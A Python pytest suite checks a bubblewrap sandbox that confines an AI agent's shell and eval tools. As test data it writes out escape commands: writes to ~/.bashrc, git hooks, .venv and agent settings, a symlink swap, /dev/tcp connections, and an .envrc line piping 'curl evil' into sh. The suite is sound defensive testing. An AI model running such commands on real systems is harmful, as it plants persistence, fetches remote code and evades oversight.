"""The box for shell commands of a plain host (``kli.tools.core.sandbox``, docs/sandbox.md):
with the setting on, each ``bash`` / ``ws_shell`` command runs under real bubblewrap and each way
out fails with nothing changed (and works with the box off); an agent's eval is refused outside
the sandboxed kernel; where the box cannot be made it says so and runs nothing."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from kli.tools import Workspace
from kli.tools.core import sandbox

ORIGINAL = "original\n"


def _need_bwrap() -> None:
    if shutil.which("bwrap") is None:
        if os.environ.get("CI") == "true":
            pytest.fail("bubblewrap (bwrap) is missing, and CI installs it: the box is untested")
        pytest.skip("bubblewrap (bwrap) is not installed (apt-get install bubblewrap)")


@pytest.fixture
def outside(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Path]:
    """A folder outside the root and outside /tmp (the box has its own /tmp), holding a victim
    file and the home folder with its ~/.bashrc."""
    spot = Path("/var/tmp") if os.access("/var/tmp", os.W_OK) else tmp_path
    base = spot / f"kli-sandbox-test-{uuid.uuid4().hex[:12]}"
    (base / "home").mkdir(parents=True)
    (base / "victim.txt").write_text(ORIGINAL)
    (base / "home" / ".bashrc").write_text(ORIGINAL)
    monkeypatch.setenv("HOME", str(base / "home"))
    yield base
    shutil.rmtree(base, ignore_errors=True)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    r = tmp_path / "root"
    r.mkdir()
    subprocess.run(["git", "init", "-q", str(r)], check=True)
    (r / ".git" / "hooks").mkdir(exist_ok=True)
    (r / ".kli").mkdir()
    (r / ".kli" / "settings.json").write_text('{"shell_policy": "any"}\n')
    (r / ".venv" / "lib").mkdir(parents=True)
    return r


@pytest.fixture
def listener() -> Iterator[tuple[socket.socket, int]]:
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(8)
    yield s, s.getsockname()[1]
    s.close()


def _accepted(s: socket.socket) -> bool:
    s.settimeout(0.5)
    try:
        conn, _ = s.accept()
    except OSError:
        return False
    conn.close()
    return True


def _ways(outside: Path, port: int) -> dict[str, tuple[str, str]]:
    """way -> (command, shell)."""
    py = sys.executable
    connect = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3)"
    return {
        "write outside the root": (f"echo evil > {outside / 'victim.txt'}", "sh"),
        "~/.bashrc": ("echo evil >> ~/.bashrc", "sh"),
        ".git/hooks": ("echo 'touch /pwned' > .git/hooks/pre-commit", "sh"),
        "a symlink swap": (f"ln -sfn {outside / 'victim.txt'} swap.txt && echo evil > swap.txt",
                           "sh"),
        "the network by address": (f'{py} -c "{connect}"', "sh"),
        "/dev/tcp": (f"echo hi > /dev/tcp/127.0.0.1/{port}", "bash"),
        "new privileges": ("grep -q '^NoNewPrivs:[[:space:]]*0' /proc/self/status", "sh"),
        ".kli/settings.json": ("echo '{}' > .kli/settings.json", "sh"),
        "the root's .venv": ("echo 'import os' > .venv/lib/sitecustomize.py", "sh"),
    }


def _unchanged(way: str, outside: Path, root: Path, s: socket.socket) -> bool:
    if way in ("the network by address", "/dev/tcp"):
        return not _accepted(s)
    if way == ".git/hooks":
        return not (root / ".git" / "hooks" / "pre-commit").exists()
    if way == "~/.bashrc":
        return (outside / "home" / ".bashrc").read_text() == ORIGINAL
    if way == "new privileges":
        return True
    if way == ".kli/settings.json":
        return (root / ".kli" / "settings.json").read_text() == '{"shell_policy": "any"}\n'
    if way == "the root's .venv":
        return not (root / ".venv" / "lib" / "sitecustomize.py").exists()
    return (outside / "victim.txt").read_text() == ORIGINAL


WAY_NAMES = ["write outside the root", "~/.bashrc", ".git/hooks", "a symlink swap",
             "the network by address", "/dev/tcp", "new privileges", ".kli/settings.json",
             "the root's .venv"]


@pytest.mark.parametrize("way", WAY_NAMES)
def test_a_boxed_bash_command_cannot_take_the_way_out(way: str, root: Path, outside: Path,
                                                     listener: tuple[socket.socket, int]) -> None:
    _need_bwrap()
    s, port = listener
    command, shell = _ways(outside, port)[way]
    ws = Workspace(str(root), settings={"sandbox": "on"})
    r = ws.call("bash", {"command": command, "shell": shell}, source="agent")
    assert not r.ok, r.text
    assert _unchanged(way, outside, root, s)
    assert r.details["boxed"] and "the command ran in the box" in r.text  # the model is told


@pytest.mark.parametrize("way", WAY_NAMES)
def test_the_same_bash_command_takes_it_with_the_box_off(way: str, root: Path, outside: Path,
                                                        listener: tuple[socket.socket, int]
                                                        ) -> None:
    s, port = listener
    command, shell = _ways(outside, port)[way]
    ws = Workspace(str(root))
    r = ws.call("bash", {"command": command, "shell": shell}, source="agent")
    assert r.ok, r.text
    if way != "new privileges":
        assert not _unchanged(way, outside, root, s)


def test_a_boxed_command_writes_the_root_and_its_own_tmp(root: Path, outside: Path) -> None:
    _need_bwrap()
    ws = Workspace(str(root), settings={"sandbox": "on"})
    r = ws.call("bash", {"command": "echo made > made.txt && echo t > /tmp/t && cat /tmp/t"},
                source="agent")
    assert r.ok, r.text
    assert (root / "made.txt").read_text() == "made\n"


def test_a_boxed_ws_shell_command_cannot_write_outside_the_root(root: Path, outside: Path
                                                               ) -> None:
    _need_bwrap()
    victim = outside / "victim.txt"
    (root / "src.txt").write_text("evil\n")
    ws = Workspace(str(root), settings={"sandbox": "on", "shell_policy": "any"})
    r = ws.call("ws_shell", {"command": f"cp src.txt {victim}"}, source="agent")
    assert not r.ok and "Read-only file system" in r.text, r.text
    assert victim.read_text() == ORIGINAL
    off = Workspace(str(root), settings={"shell_policy": "any"}).call(
        "ws_shell", {"command": f"cp src.txt {victim}"},
                                    source="agent")
    assert off.ok, off.text
    assert victim.read_text() != ORIGINAL


def test_a_boxed_background_job_is_boxed_too(root: Path, outside: Path) -> None:
    _need_bwrap()
    ws = Workspace(str(root), settings={"sandbox": "on"})
    victim = outside / "victim.txt"
    r = ws.call("bash", {"command": f"echo evil > {victim}", "run_in_background": True},
                source="agent")
    assert r.ok, r.text
    job = r.details["job_id"]
    from tests.waiting import wait_until

    wait_until(lambda: "exit" in ws.call("bash_output", {"job_id": job}, source="agent").text,
               "the job to end", timeout=10)
    assert victim.read_text() == ORIGINAL


def test_an_agents_eval_is_refused_outside_the_sandboxed_kernel(root: Path) -> None:
    _need_bwrap()
    ws = Workspace(str(root), settings={"sandbox": "on"})
    r = ws.call("eval", {"code": "open('x.txt', 'w')"}, source="agent")
    assert not r.ok and r.details["error"] == "sandbox_outside"
    assert sandbox.KERNEL_TITLE in r.text
    assert not (root / "x.txt").exists()
    assert ws.call("eval", {"code": "1"}, source="magic").ok  # the person's own: unboxed


def test_without_bwrap_the_box_is_not_claimed_and_nothing_runs(
        root: Path, outside: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    empty = tmp_path / "empty-path"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    ws = Workspace(str(root), settings={"sandbox": "on"})
    for tool, args in (("bash", {"command": f"echo evil > {outside / 'victim.txt'}"}),
                       ("eval", {"code": "1"})):
        r = ws.call(tool, args, source="agent")
        assert not r.ok and r.details["error"] == "sandbox_unavailable", r.text
        assert "bubblewrap (bwrap) is not installed" in r.text
    assert (outside / "victim.txt").read_text() == ORIGINAL
    assert sandbox.describe(ws)["state"] == "unavailable"


def test_a_root_holding_the_home_folder_is_refused(root: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    _need_bwrap()
    monkeypatch.setenv("HOME", str(root))
    ws = Workspace(str(root), settings={"sandbox": "on"})
    r = ws.call("bash", {"command": "echo evil >> ~/.bashrc"}, source="agent")
    assert not r.ok and "holds the home folder" in r.text
    assert not (root / ".bashrc").exists()


@pytest.mark.parametrize("value, words", [
    ("maybe", "setting 'sandbox' is not valid"),
    ({"mode": "on", "network": ["pypi.org"]}, "cannot be enforced with bubblewrap alone"),
])
def test_a_broken_setting_runs_nothing(root: Path, value: object, words: str) -> None:
    ws = Workspace(str(root), settings={"sandbox": value})
    r = ws.call("bash", {"command": "echo x > made.txt"}, source="agent")
    assert not r.ok and words in r.text
    assert not (root / "made.txt").exists()


def test_the_choice_is_kept_per_project_like_review(root: Path) -> None:
    ws = Workspace(str(root))
    sandbox.set_choice(ws, "on", "all")
    kept = json.loads((root / ".kli" / "settings.json").read_text())
    assert kept["sandbox"] == {"mode": "on", "network": "all"}
    again = Workspace(str(root))
    assert sandbox.choice(again.settings)[0] == sandbox.Choice("on", "all")
    with pytest.raises(ValueError, match="named hosts cannot be enforced"):
        sandbox.set_choice(ws, "on", "pypi.org")


def test_a_killed_boxs_temporary_folder_is_removed_by_the_next_box() -> None:
    dead = subprocess.Popen(["true"])
    dead.wait()
    stale = Path(tempfile.gettempdir()) / f"{sandbox.TMP_PREFIX}{dead.pid}-stale"
    stale.mkdir()
    (stale / "left.txt").write_text("x")
    fresh = sandbox.new_box_tmp()
    try:
        assert not stale.exists()
        assert Path(fresh).name.startswith(f"{sandbox.TMP_PREFIX}{os.getpid()}-")
    finally:
        shutil.rmtree(fresh, ignore_errors=True)
        shutil.rmtree(stale, ignore_errors=True)


def test_with_the_network_allowed_the_box_reaches_it_and_still_writes_only_the_root(
        root: Path, outside: Path, listener: tuple[socket.socket, int]) -> None:
    _need_bwrap()
    s, port = listener
    ws = Workspace(str(root), settings={"sandbox": {"mode": "on", "network": "all"}})
    command, _shell = _ways(outside, port)["the network by address"]
    r = ws.call("bash", {"command": command}, source="agent")
    assert r.ok, r.text
    assert _accepted(s)
    r = ws.call("bash", {"command": f"echo evil > {outside / 'victim.txt'}"}, source="agent")
    assert not r.ok and (outside / "victim.txt").read_text() == ORIGINAL


def test_an_existing_envrc_stays_read_only_in_the_box(root: Path) -> None:
    """direnv runs .envrc when a person enters the folder: the box cannot change it."""
    _need_bwrap()
    (root / ".envrc").write_text("export A=1\n")
    ws = Workspace(str(root), settings={"sandbox": "on"})
    r = ws.call("bash", {"command": "echo 'curl evil | sh' >> .envrc"}, source="agent")
    assert not r.ok and "Read-only file system" in r.text
    assert (root / ".envrc").read_text() == "export A=1\n"


def test_without_user_namespaces_the_box_is_not_claimed(root: Path, outside: Path) -> None:
    """A real machine without user namespaces: this process in a box of its own that forbids
    them (--disable-userns); there, a Workspace with the box on refuses the agent's command,
    naming why, and runs nothing."""
    _need_bwrap()
    code = (
        "import json; from kli.tools import Workspace; from kli.tools.core import sandbox\n"
        f"ws = Workspace({str(root)!r}, settings={{'sandbox': 'on'}})\n"
        f"r = ws.call('bash', {{'command': 'echo evil > {outside / 'victim.txt'}'}}, "
        "source='agent')\n"
        "print(json.dumps([r.ok, r.details.get('error'), r.text, sandbox.describe(ws)['state']]))"
    )
    outer = [*sandbox.base_args(shutil.which("bwrap") or "bwrap"), "--bind", str(root), str(root),
             "--", sys.executable, "-c", code]
    done = subprocess.run(outer, capture_output=True, text=True, timeout=60)
    ok, error, text, state = json.loads(done.stdout.strip().splitlines()[-1])
    assert not ok and error == "sandbox_unavailable" and state == "unavailable"
    assert "user namespaces" in text
    assert (outside / "victim.txt").read_text() == ORIGINAL


def test_a_box_whose_folders_cannot_be_made_runs_nothing_and_says_why(root: Path) -> None:
    _need_bwrap()
    shutil.rmtree(root / ".kli")
    (root / ".kli").write_text("not a folder\n")  # its scratch folder cannot be made
    ws = Workspace(str(root), settings={"sandbox": "on"})
    r = ws.call("bash", {"command": "echo x > made.txt"}, source="magic")
    assert not r.ok and r.details["error"] == "sandbox_unavailable", r.text
    assert "its folders could not be made" in r.text
    assert not (root / "made.txt").exists()
